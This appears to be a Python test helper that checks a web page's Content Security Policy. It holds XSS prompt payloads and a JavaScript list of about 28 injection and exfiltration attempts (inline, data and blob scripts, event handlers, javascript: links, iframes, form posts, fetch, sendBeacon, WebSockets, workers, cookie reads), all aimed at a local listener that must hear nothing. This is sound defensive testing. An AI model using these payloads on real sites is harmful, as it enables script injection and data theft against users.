"""What a script that got into the page would try, and a listener that must hear nothing of it."""

from __future__ import annotations

import socket
import threading
from contextlib import contextmanager
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Generator

# Prompts that would do harm if they were ever taken for markup or turned their surroundings.
PROMPTS = (
    "<img src=x onerror='window.owned=1'> a <b>fox</b> & &lt;snow&gt;",
    "</script><!--<script>window.owned=1</script><svg onload='window.owned=1'>",
    "\u202egnp.exe\u2066 drawkcab\u2069 \u200fa boat",
    "javascript:window.owned=1 {{7*7}} ${7*7} <iframe srcdoc='<script>top.owned=1</script>'>",
)

# What markup in a prompt would have become; the block of data in the page is never run.
MADE_OF_WORDS = "iframe, svg[onload], script:not([src], #known)"

# Each line is one way to run something or to tell somebody; TRAP listens on another port.
ATTEMPTS = """
(() => {
  window.owned = []; window.blocked = [];
  document.addEventListener('securitypolicyviolation',
    (event) => window.blocked.push(event.effectiveDirective));
  const add = (name, fields) => {
    const element = document.createElement(name);
    Object.assign(element, fields);
    document.body.append(element);
    return element;
  };
  const attempts = [
    () => add('script', {textContent: "window.owned.push('inline script')"}),
    () => add('script', {src: 'TRAP/script.js'}),
    () => add('script', {src: "data:text/javascript,window.owned.push('data script')"}),
    () => add('script', {src: URL.createObjectURL(new Blob(["window.owned.push('blob')"]))}),
    () => { add('div', {}).innerHTML = "<img src=x onerror=\\"window.owned.push('handler')\\">"; },
    () => add('a', {href: "javascript:window.owned.push('address')"}).click(),
    () => setTimeout("window.owned.push('timer')", 0),
    () => add('style', {textContent: '@import "TRAP/style.css"; h1 { color: rgb(1, 2, 3) }'}),
    () => add('link', {rel: 'stylesheet', href: 'TRAP/sheet.css'}),
    () => add('link', {rel: 'prefetch', href: 'TRAP/prefetch'}),
    () => add('img', {src: 'TRAP/beacon.png'}),
    () => add('video', {src: 'TRAP/film.mp4', autoplay: true}),
    () => add('iframe', {src: 'TRAP/frame'}),
    () => add('iframe', {srcdoc: "<script>parent.owned.push('srcdoc')<\\/script>"}),
    () => add('object', {data: 'TRAP/object'}),
    () => add('embed', {src: 'TRAP/embed'}),
    () => add('base', {href: 'TRAP/'}),
    () => add('form', {action: 'TRAP/form', method: 'post'}).submit(),
    () => fetch('TRAP/fetch', {mode: 'no-cors'}).catch(() => 0),
    () => navigator.sendBeacon('TRAP/said', 'secret'),
    () => new WebSocket('TRAP/socket'.replace('http', 'ws')),
    () => new EventSource('TRAP/events'),
    () => new Worker('TRAP/worker.js'),
    () => new Worker(URL.createObjectURL(new Blob(["1"]))),
    () => import('TRAP/module.js').catch(() => 0),
    () => { const ask = new XMLHttpRequest(); ask.open('GET', 'TRAP/xhr'); ask.send(); },
    () => { if (document.cookie) window.owned.push(`cookie ${document.cookie}`); },
    () => { if (window.pywebview) window.owned.push('bridge'); },
  ];
  for (const attempt of attempts) { try { attempt(); } catch { /* refused at once */ } }
  return attempts.length;
})()
"""
# The ways that must have been refused aloud, by whatever name an engine gives the directive.
REFUSED = ("script-src", "style-src", "img-src", "media-src", "frame-src", "connect-src")


@contextmanager
def trap() -> Generator[tuple[str, list[bytes]]]:
    """Listen on a port of its own; yield its origin and what it heard."""
    heard: list[bytes] = []
    listener = socket.create_server(("127.0.0.1", 0))

    def listen() -> None:
        while True:
            try:
                connection, _ = listener.accept()
            except OSError:
                return
            with connection:
                connection.settimeout(1)
                try:
                    heard.append(connection.recv(200))
                except OSError:
                    heard.append(b"")

    thread = threading.Thread(target=listen, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{listener.getsockname()[1]}", heard
    finally:
        listener.shutdown(socket.SHUT_RDWR)
        listener.close()
        thread.join(5)


def assert_all_refused(owned: object, blocked: object, heard: list[bytes]) -> None:
    assert owned == [], owned
    # Chromium may connect on suspicion, before the policy is asked; nothing is said then.
    said = [data.partition(b"\r\n")[0] for data in heard if data]
    assert said == [], said
    assert isinstance(blocked, list)
    for directive in REFUSED:
        assert any(str(each).startswith(directive) for each in blocked), (directive, blocked)
